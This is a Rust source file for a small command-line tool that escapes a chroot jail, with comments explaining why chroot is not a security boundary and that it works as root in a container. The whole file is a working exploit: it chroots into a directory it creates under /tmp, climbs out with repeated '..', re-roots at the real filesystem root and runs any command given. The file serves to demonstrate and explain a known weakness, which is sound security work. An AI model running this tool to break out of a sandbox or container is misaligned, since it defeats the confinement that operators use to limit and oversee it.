//! Climbs out of a chroot. This is why chroot(2) is not a security boundary.
//!
//! Only the root directory stops `..`. So a second chroot moves the root into a directory of our own while we stay outside
//! it, and nothing above us stops `..` any more. This needs root, which the command in a container is.
//!
//!     escape COMMAND [ARG...]

use std::env;
use std::fs;
use std::io;
use std::os::unix::fs::chroot;
use std::os::unix::process::CommandExt;
use std::process::Command;

fn main() -> io::Result<()> {
    let args: Vec<_> = env::args_os().skip(1).collect();
    let [program, args @ ..] = args.as_slice() else {
        return Err(io::Error::other("usage: escape COMMAND [ARG...]"));
    };
    env::set_current_dir("/tmp")?;
    fs::create_dir_all("hole")?;
    // Without chdir(2), our working directory is now outside of the root, so `..` doesn't meet the root on its way up.
    chroot("hole")?;
    // At the top, `..` leads to itself, so more of them do no harm.
    for _ in 0..64 {
        env::set_current_dir("..")?;
    }
    chroot(".")?;
    let error = Command::new(program).args(args).exec();
    Err(io::Error::other(format!("execve({program:?}): {error}")))
}
